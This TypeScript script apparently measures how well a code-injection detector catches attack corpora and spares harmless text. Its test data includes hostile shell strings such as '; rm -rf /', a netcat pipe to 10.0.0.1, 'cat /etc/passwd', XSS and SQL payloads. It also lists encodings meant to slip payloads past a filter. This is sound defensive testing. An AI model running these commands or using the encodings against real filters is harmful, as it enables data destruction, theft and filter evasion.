// `npm run accuracy -- DIR [--verbose]`: measures code_sanitation on corpora of attacks and of harmless text, one JSON object
// a line. Prints what each family's attacks and each harmless set come to; exits 1 when a threshold is missed.
import { existsSync, readdirSync, readFileSync } from "node:fs";
import { basename, join } from "node:path";
import { compileDetector } from "../src/plugins/code_sanitation/detector.ts";
import { LANGUAGES } from "../src/plugins/code_sanitation/settings.ts";

interface Sample {
  readonly text: string;
  readonly family?: string;
}

/** The least share caught of an attack file's family, or the most share flagged of a harmless set. */
const LEAST_CAUGHT: Readonly<Record<string, number>> = {
  "attacks-libinjection sql": 0.95,
  "attacks-libinjection html": 0.95,
  "attacks-gotestwaf": 0.9,
  "attacks-crs": 0.75,
};
const MOST_FLAGGED: Readonly<Record<string, number>> = {
  "benign-bench": 0,
  "benign-gotestwaf": 0,
  "benign-libinjection": 0.01,
  "benign-arena-hard": 0.01,
};
/** The specification's own examples (section 2.8), written out as somebody would send them. */
const SPECIFIED: Readonly<Record<string, readonly string[]>> = {
  javascript: [
    "eval()",
    "eval('alert(1)')",
    "Function()",
    "new Function('return 1')()",
    "setTimeout('alert(1)', 100)",
    "element.innerHTML = '<b>x</b>'",
    "document.write('<p>x</p>')",
    "<script>alert(1)</script>",
    '<div onclick="go()">',
    "button.addEventListener('click', 'alert(1)')",
  ],
  python: [
    "exec()",
    "exec('import os')",
    "eval('1+1')",
    "compile('1+1', 'x', 'eval')",
    "__import__('os')",
    "os.system('ls')",
    "subprocess.Popen(['ls'])",
  ],
  php: ["eval($_GET['x'])", "eval()", "system('ls')", "system()"],
  sql: ["UNION SELECT", "1 UNION SELECT name FROM users", "DROP TABLE", "DROP TABLE users"],
  shell: [
    "system('ls')",
    "exec('ls')",
    "; rm -rf /",
    "x && whoami",
    "x | nc 10.0.0.1 80",
    "$(whoami)",
    "x=`id`",
    "cat /etc/passwd",
    "echo hello > /tmp/file",
    "cd /etc",
    "cd ../..",
    "chmod 777 file",
    "chown root:root file.txt",
  ],
  java: ["Runtime.exec()", 'Runtime.getRuntime().exec("ls")'],
  csharp: ["Process.Start()", 'Process.Start("cmd.exe")'],
  ruby: ["eval()", "eval('1')", "exec('ls')", "exec()"],
  html: ["<script>", "<script src=//x>", "<img src=x onerror=alert(1)>", "onerror="],
};

const detector = compileDetector(LANGUAGES);
const isFlagged = (text: string): boolean => detector.first(text) !== null;

const bytesOf = (text: string): string[] =>
  [...new TextEncoder().encode(text)].map((byte) => byte.toString(16).padStart(2, "0").toUpperCase());
const hex = (code: number, digits: number): string => code.toString(16).padStart(digits, "0");
const mapUnits = (text: string, write: (code: number) => string): string =>
  Array.from({ length: text.length }, (_, index) => write(text.charCodeAt(index))).join("");

/** Ways to hide a text from a reader who does not decode it. */
const ENCODINGS: Readonly<Record<string, (text: string) => string>> = {
  percent: (text) =>
    bytesOf(text)
      .map((byte) => `%${byte}`)
      .join(""),
  "percent twice": (text) =>
    bytesOf(text)
      .map((byte) => `%25${byte}`)
      .join(""),
  "entities, decimal": (text) => mapUnits(text, (code) => `&#${code};`),
  "entities, hex": (text) => mapUnits(text, (code) => `&#x${hex(code, 1)};`),
  "\\u escapes": (text) => mapUnits(text, (code) => `\\u${hex(code, 4)}`),
  "\\x escapes": (text) =>
    mapUnits(text, (code) => (code < 0x100 ? `\\x${hex(code, 2)}` : `\\u${hex(code, 4)}`)),
  "full width": (text) =>
    mapUnits(text, (code) => String.fromCharCode(code > 0x20 && code < 0x7f ? code + 0xfee0 : code)),
  "zero width": (text) => mapUnits(text, (code) => `${String.fromCharCode(code)}\u200b`),
};
const PROSE = "The weather was fine and the road was long, so we walked until the evening came. ";
const PADDING = PROSE.repeat(Math.ceil((128 * 1024) / PROSE.length));

const directory = process.argv.slice(2).find((argument) => !argument.startsWith("--"));
const isVerbose = process.argv.includes("--verbose");
if (directory === undefined || !existsSync(directory)) {
  console.error(
    directory === undefined
      ? "accuracy: which directory? npm run accuracy -- ../shared/corpora [--verbose]"
      : `accuracy: ${directory} does not exist`,
  );
  process.exit(2);
}
const files = readdirSync(directory)
  .filter((name) => name.endsWith(".jsonl"))
  .sort();
if (files.length === 0) {
  console.error(`accuracy: ${directory} holds no .jsonl file`);
  process.exit(2);
}
const missedThresholds: string[] = [];

console.log("Attacks: caught");
report(
  "specification",
  Object.entries(SPECIFIED).flatMap(([family, texts]) => texts.map((text) => ({ text, family }))),
  1,
);
for (const file of files.filter((name) => name.startsWith("attacks"))) {
  report(basename(file, ".jsonl"), samplesOf(file), LEAST_CAUGHT[basename(file, ".jsonl")]);
}
console.log("\nHarmless: flagged");
for (const file of files.filter((name) => name.startsWith("benign")))
  reportHarmless(basename(file, ".jsonl"), samplesOf(file));
console.log("\nThe same verdict, encoded and padded");
reportEqualVerdicts(files.flatMap(samplesOf));

if (missedThresholds.length > 0) {
  console.error(`\naccuracy: missed ${missedThresholds.join("; ")}`);
  process.exit(1);
}

function samplesOf(file: string): Sample[] {
  const lines = readFileSync(join(directory ?? "", file), "utf8").split("\n");
  return lines.filter((line) => line.trim() !== "").map((line) => JSON.parse(line) as Sample);
}

function report(name: string, samples: readonly Sample[], least: number | undefined): void {
  const missed = samples.filter(({ text }) => !isFlagged(text));
  for (const family of new Set(samples.map((sample) => sample.family ?? ""))) {
    const own = samples.filter((sample) => (sample.family ?? "") === family);
    const caught = own.length - missed.filter((sample) => (sample.family ?? "") === family).length;
    judge(`${name} ${family}`, caught, own.length, LEAST_CAUGHT[`${name} ${family}`]);
  }
  judge(name, samples.length - missed.length, samples.length, least);
  if (!isVerbose) return;
  for (const { family, text } of missed)
    console.log(`    missed ${family ?? ""}: ${JSON.stringify(text.slice(0, 160))}`);
}

function judge(name: string, count: number, total: number, least: number | undefined): void {
  const share = count / total;
  const wanted = least === undefined ? "" : `   at least ${percent(least)}`;
  console.log(
    `  ${name.padEnd(30)} ${`${count} of ${total}`.padStart(14)} ${percent(share).padStart(8)}${wanted}`,
  );
  if (least !== undefined && share < least)
    missedThresholds.push(`${name} ${percent(share)} < ${percent(least)}`);
}

function reportHarmless(name: string, samples: readonly Sample[]): void {
  const flagged = samples
    .map(({ text }) => ({ text, finding: detector.first(text) }))
    .filter(({ finding }) => finding !== null);
  const share = flagged.length / samples.length;
  const most = MOST_FLAGGED[name];
  const wanted = most === undefined ? "" : `   at most ${percent(most)}`;
  console.log(
    `  ${name.padEnd(30)} ${`${flagged.length} of ${samples.length}`.padStart(14)} ${percent(share).padStart(8)}${wanted}`,
  );
  for (const { text, finding } of flagged) {
    if (finding === null) continue;
    console.log(
      `    ${finding.pattern}: ${JSON.stringify(text.slice(Math.max(0, finding.start - 40), finding.end + 40))}`,
    );
  }
  if (most !== undefined && share > most)
    missedThresholds.push(`${name} ${percent(share)} > ${percent(most)}`);
}

function reportEqualVerdicts(samples: readonly Sample[]): void {
  const verdicts = samples.map(({ text }) => isFlagged(text));
  const ways = { ...ENCODINGS, "behind 128 kB": (text: string) => PADDING + text };
  for (const [name, encode] of Object.entries(ways)) {
    // Padding costs 128 kB a sample; every eleventh is a fair draw.
    const step = name.startsWith("behind") ? 11 : 1;
    let checked = 0;
    let different = 0;
    for (let index = 0; index < samples.length; index += step) {
      const text = samples[index]?.text ?? "";
      checked++;
      if (isFlagged(encode(text)) === verdicts[index]) continue;
      different++;
      if (isVerbose && different <= 40)
        console.log(`    ${verdicts[index] ? "lost" : "new"}: ${JSON.stringify(text.slice(0, 120))}`);
    }
    judge(name, checked - different, checked, 1);
  }
}

function percent(share: number): string {
  return `${(share * 100).toFixed(1)} %`;
}
